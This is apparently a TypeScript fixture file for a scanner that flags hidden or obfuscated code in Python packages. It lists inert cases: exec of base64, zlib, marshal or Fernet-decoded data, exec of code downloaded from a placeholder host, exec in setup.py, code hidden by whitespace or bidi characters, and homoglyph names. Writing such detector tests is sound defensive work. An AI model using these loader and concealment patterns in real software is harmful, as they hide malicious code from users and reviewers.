import { deflateSync } from 'node:zlib'
import { base64, hex, inertProgram, inInit, joined, type Case } from './pack-of.ts'

const deflated = deflateSync(inertProgram).toString('base64')

/** Hidden code: decoded and run, renamed, or out of sight. */
export const obfuscators: Case[] = [
  inInit('code-from-data', 'exec of base64', 'import base64', `exec(base64.b64decode("${base64('x = 1')}"))`),
  inInit(
    'code-from-data',
    'exec of zlib in base64',
    'import zlib, base64',
    `exec(zlib.decompress(base64.b64decode("${deflated}")))`,
  ),
  inInit('code-from-data', 'exec of marshal', 'import marshal', "exec(marshal.loads(b'\\xe3\\x00\\x00\\x00'))"),
  inInit('code-from-data', 'exec of rot13', 'import codecs', "exec(codecs.decode('cevag(1)', 'rot13'))"),
  inInit('code-from-data', 'exec of hex', `exec(bytes.fromhex("${hex('x = 1')}").decode())`),
  inInit('code-from-data', 'exec of joined characters', "exec(''.join(chr(c) for c in [120, 32, 61, 32, 49]))"),
  inInit(
    'code-from-data',
    'exec of mapped characters',
    "exec(''.join(map(chr, [120 - 0, 61, 49])))",
    "exec(''.join([chr(a ^ 7) for a in DATA]))",
  ),
  inInit(
    'code-from-data',
    'a lambda around reversed base64',
    '_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))',
    `exec((_)(b"${deflated.split('').toReversed().join('')}"))`,
  ),
  inInit(
    'code-from-data',
    'exec of what Fernet decrypts',
    'from cryptography.fernet import Fernet',
    'exec(Fernet(b"inert-key").decrypt(b"inert-text"))',
  ),
  inInit(
    'code-from-data',
    'exec of what is downloaded',
    'import requests',
    'code = requests.get("https://stage.example/two").text',
    'exec(code)',
  ),
  inInit(
    'code-from-data',
    'exec of what urlopen reads',
    'from urllib.request import urlopen as u',
    'with u("https://stage.example/two") as page:',
    '    body = page.read()',
    'exec(body)',
  ),
  inInit(
    'code-from-data',
    'a compiled download',
    'import urllib.request',
    'exec(compile(urllib.request.urlopen("https://stage.example").read(), "x", "exec"))',
  ),
  inInit(
    'code-from-data',
    'code that sits in a picture',
    'import os',
    'exec(open(os.path.join(os.path.dirname(__file__), "icon.png"), "rb").read())',
  ),
  inInit(
    'code-from-data',
    'exec under another name',
    'import base64 as b',
    'run = exec',
    `run(b.b64decode("${base64('x = 1')}"))`,
  ),
  inInit(
    'code-from-data',
    'exec out of a function that decodes',
    'from base64 import b64decode',
    'def load(text):',
    '    return b64decode(text).decode()',
    `exec(load("${base64('x = 1')}"))`,
  ),
  inInit(
    'code-from-data',
    'a function handed decoded text',
    'import base64',
    'def go(text):',
    '    exec(text)',
    `go(base64.b64decode("${base64('x = 1')}"))`,
  ),
  inInit(
    'code-from-data',
    'a name by getattr',
    'import builtins, base64',
    `getattr(builtins, "ex" + "ec")(base64.b64decode("${base64('x = 1')}"))`,
  ),
  inInit('code-from-data', 'a star import', 'from base64 import *', `exec(b64decode("${base64('x = 1')}"))`),
  inInit(
    'code-from-data',
    'code in a node, called later',
    'import base64',
    'class Node:',
    '    def run(self):',
    `        exec(base64.b64decode("${base64('x = 1')}"))`,
  ),
  inInit('obfuscated-code', 'os.system in pieces', 'import os', 'getattr(os, "sys" + "tem")("echo inert")'),
  inInit('obfuscated-code', 'exec out of globals', 'globals()["__builtins__"]["ex" + "ec"]("x = 1")'),
  inInit(
    'obfuscated-code',
    'a module in pieces',
    'import importlib',
    'importlib.import_module("sub" + "process").run(["echo", "inert"])',
  ),
  inInit(
    'obfuscated-code',
    'a module behind base64',
    'import base64',
    `__import__(base64.b64decode("${base64('os')}").decode()).getcwd()`,
  ),
  inInit(
    'obfuscated-code',
    'a program in base64',
    `DATA = "${base64(inertProgram)}"`,
    'import helper',
    'helper.load(DATA)',
  ),
  inInit('obfuscated-code', 'a program in hex, deflated', `DATA = "${deflateSync(inertProgram).toString('hex')}"`),
  inInit(
    'obfuscated-code',
    'PyArmor',
    'from pyarmor_runtime_000000 import __pyarmor__',
    "__pyarmor__(__name__, __file__, b'inert')",
  ),
  inInit(
    'obfuscated-code',
    'names of O and 0',
    ...['OO0OO0', 'O0O0OO', 'OOO0O0', 'O00O0O', 'OOOOO0', 'O0000O', 'OO00O0'].map(
      (name, index) => `${name} = ${index}`,
    ),
  ),
  inInit('obfuscated-code', 'names with Cyrillic letters', 'sys\u0442em_p\u0430th = 1', 'print(sys\u0442em_p\u0430th)'),
  inInit('obfuscated-code', 'exec in mathematical letters', '\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}("x = 1")'),
  inInit('hidden-code', 'code far to the right', `x = 1${' '.repeat(300)};import os; os.getcwd()`),
  inInit('hidden-code', 'code in a text', 'exec("import os\\nos.getcwd()")'),
  inInit('hidden-code', 'code that is indented out of sight', 'if True:', `${' '.repeat(240)}import os`),
  inInit('hidden-code', 'a line that is turned around', '# \u202e } \u2066 if admin\u2069 \u2066 begin', 'x = 1'),
  { name: 'utf-7', rule: 'hidden-code', files: { '__init__.py': `# -*- coding: ${joined('utf', '-7')} -*-\nx = 1\n` } },
  {
    name: 'code in install.py',
    rule: 'code-from-data',
    files: {
      '__init__.py': '',
      'install.py': 'import base64\nif __name__ == "__main__":\n    exec(base64.b64decode("eA=="))\n',
    },
  },
  {
    name: 'code in setup.py',
    rule: 'code-from-data',
    files: {
      '__init__.py': '',
      'setup.py': 'import base64, setuptools\nexec(base64.b64decode("eA=="))\nsetuptools.setup()\n',
    },
  },
  {
    name: 'a key in one file and exec in another',
    rule: 'code-from-data',
    files: {
      '__init__.py': 'from .run import go\nfrom .data import TEXT\ngo(TEXT)\n',
      'data.py': `import base64\nTEXT = base64.b64decode("${base64('x')}")\n`,
      'run.py': 'from .data import TEXT\ndef go(text):\n    exec(TEXT)\n',
    },
  },
  {
    name: 'tests that are loaded',
    rule: 'code-from-data',
    files: {
      '__init__.py': 'from .tests import helper\n',
      'tests/__init__.py': '',
      'tests/helper.py': 'import base64\nexec(base64.b64decode("eA=="))\n',
    },
  },
]
